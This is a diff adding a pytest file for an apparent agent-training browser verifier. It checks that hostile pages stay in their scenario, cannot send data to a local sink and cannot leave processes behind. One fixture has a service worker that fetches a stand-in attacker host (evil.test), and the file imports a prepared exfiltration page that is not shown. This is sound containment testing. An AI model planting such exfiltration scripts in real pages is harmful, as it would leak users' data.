@@ -1,0 +1,191 @@
+"""Pages that do harm end in time, cost only their scenario, and send nothing."""
+
+from __future__ import annotations
+
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import psutil
+import pytest
+
+from agentgym.errors import InfrastructureError
+from agentgym.verifiers.web.trace import Trace
+from tests.verifiers.browser.hostile import EXFILTRATION, HOSTILE, LOOP_ON_CLICK, USE
+from tests.verifiers.browser.tasks import task_of
+
+pytestmark = pytest.mark.slow
+
+Play = Callable[..., Trace]
+
+
+@pytest.mark.parametrize("name", ["dialogs_on_click", "popups", "memory", "console", "nodes"])
+def test_a_hostile_page_costs_only_its_scenario(play: Play, name: str) -> None:
+    trace = play(HOSTILE[name], *USE)
+    assert not trace.deadline  # 75 s
+    assert len(trace.events) == 8
+    if name == "nodes":  # there is too much of it from the start
+        return
+    assert [event.ok for event in trace.events[-2:]] == [True, True]
+    if name == "popups":
+        assert trace.popups >= 60
+    if name in ("dialogs_on_click", "console"):
+        assert trace.hung == 1
+        assert trace.events[3].skipped
+
+
+class Sink:
+    """Listens for TCP and UDP on one port of the host's loopback."""
+
+    def __init__(self) -> None:
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.address = f"127.0.0.1:{self.tcp.getsockname()[1]}"
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(self.tcp.getsockname())
+        self.heard: list[str] = []
+        for listen in (self._tcp, self._udp):
+            threading.Thread(target=listen, daemon=True).start()
+
+    def _tcp(self) -> None:
+        while True:
+            connection, _ = self.tcp.accept()
+            self.heard.append("tcp")
+            connection.close()
+
+    def _udp(self) -> None:
+        while self.udp.recv(1 << 16):
+            self.heard.append("udp")
+
+
+@pytest.fixture
+def sink() -> Sink:
+    return Sink()
+
+
+def leak(pool: Any, sink: Sink) -> Trace:
+    steps = [
+        {"op": "assert", "kind": "no_network"},
+        {"op": "click", "target": {"css": "#b"}},
+        {"op": "wait", "ms": 2000},
+    ]
+    page = EXFILTRATION.format(address=sink.address)
+    trace: Trace = pool.run(task_of(steps), {"index.html": page.encode()})
+    return trace
+
+
+def test_nothing_gets_out(pool: Any, sink: Sink) -> None:
+    trace = leak(pool, sink)
+    assert sink.heard == []
+    assert not trace.events[1].ok
+    ways = {address.rpartition("/")[2] for event in trace.events for address in event.blocked}
+    assert ways >= set(
+        "css prefetch module font bg img frame video object embed ping form2 fetch keepalive beacon events xhr popup "
+        "socket transport worker import workersocket download".split()
+    )
+    assert len(trace.blocked) == 5
+
+
+def test_nothing_gets_out_without_a_namespace(monkeypatch: pytest.MonkeyPatch, pool: Any, sink: Sink) -> None:
+    from agentgym.verifiers.browser import launch, open_pool
+
+    monkeypatch.setattr(launch, "_walls", lambda folder: ())
+    with open_pool() as bare:
+        leak(bare, sink)
+        assert bare.versions["network"] == "switches"
+        assert sink.heard == []
+        monkeypatch.setattr(launch, "_NO_NETWORK", ())
+    with open_pool() as open_browser:  # the sink does listen, and the page does try
+        leak(open_browser, sink)
+    assert {"tcp", "udp"} <= set(sink.heard)
+
+
+def test_a_service_worker_never_starts(play: Play) -> None:
+    page = b"<p id=p>-</p><script>navigator.serviceWorker.register('/sw.js').then(() => p.textContent = 'on')</script>"
+    look = [
+        {"op": "wait", "ms": 300},
+        {"op": "assert", "kind": "text", "target": {"css": "p"}, "equals": "-"},
+    ]
+    quiet = [{"op": "assert", "kind": kind} for kind in ("no_errors", "no_network")]
+    trace = play({"index.html": page, "sw.js": b"fetch('https://evil.test/')"}, [*look, *quiet])
+    assert [event.ok for event in trace.events] == [True] * 5
+
+
+def test_the_profiles(play: Play) -> None:
+    page = """<p id=p></p><script>const n = navigator; p.textContent = JSON.stringify([
+      n.webdriver, /Headless/.test(n.userAgent), n.userAgentData.brands.some((b) => /Headless/.test(b.brand)),
+      n.onLine, n.language, Intl.DateTimeFormat().resolvedOptions().timeZone,
+      matchMedia('(prefers-reduced-motion: reduce)').matches])</script>"""
+    look = [{"op": "assert", "kind": "text", "target": {"css": "p"}}]
+    shared = ',true,"en-US","UTC",true]'
+    assert play(page, look).events[-1].got == f"[false,false,false{shared}"
+    assert play(page, look, profile="plain").events[-1].got == f"[true,true,true{shared}"
+
+
+CHILD = """
+import sys
+from agentgym.verifiers.browser import open_pool
+from tests.verifiers.browser.tasks import task_of
+with open_pool() as pool:
+    pool.preview({"index.html": b"<p>x"})
+    print("started", flush=True)
+    pool.run(task_of([{"op": "click", "target": {"css": "#b"}}]), {"index.html": sys.argv[1].encode()})
+"""
+
+
+@pytest.fixture
+def child(pool: Any) -> Iterator[subprocess.Popen[str]]:
+    """A process that uses a page with an endless loop."""
+    process = subprocess.Popen(
+        [sys.executable, "-c", CHILD, LOOP_ON_CLICK],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert process.stdout is not None
+    assert process.stdout.readline() == "started\n"
+    time.sleep(2)  # into the loop
+    yield process
+    process.kill()
+    process.communicate()
+
+
+@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT])
+def test_no_process_stays_when_the_parent_dies(child: subprocess.Popen[str], how: signal.Signals) -> None:
+    family = psutil.Process(child.pid).children(recursive=True)
+    assert len(family) >= 5  # the driver, bubblewrap or a shell, the browser and its helpers
+    child.send_signal(how)
+    child.wait(30)
+    assert psutil.wait_procs(family, timeout=20)[1] == []
+
+
+def test_a_browser_that_is_killed_is_no_fault_of_the_page(pool: Any) -> None:
+    steps = [
+        {"op": "wait", "ms": 1500},
+        {"op": "assert", "kind": "text", "target": {"css": "p"}, "equals": "x"},
+    ]
+
+    before = {
+        process.pid for process in psutil.Process().children(recursive=True) if "shell" in process.name()
+    }
+    killer = threading.Timer(
+        1.0, lambda: [psutil.Process(pid).kill() for pid in before if psutil.pid_exists(pid)]
+    )
+    killer.start()
+    trace = pool.run(task_of(steps, steps), {"index.html": b"<p>x"})
+    killer.join()
+    assert before
+    assert [event.ok for event in trace.events] == [True] * 6
+    assert trace.hung == 0
+
+
+def test_a_browser_that_does_not_start_is_no_verdict(monkeypatch: pytest.MonkeyPatch, pool: Any) -> None:
+    from agentgym.verifiers.browser import launch, open_pool
+
+    monkeypatch.setattr(launch, "find_browser", lambda playwright: "/bin/false")
+    with open_pool() as broken, pytest.raises(InfrastructureError, match="does not start"):
+        broken.run(task_of([]), {"index.html": b"<p>x"})
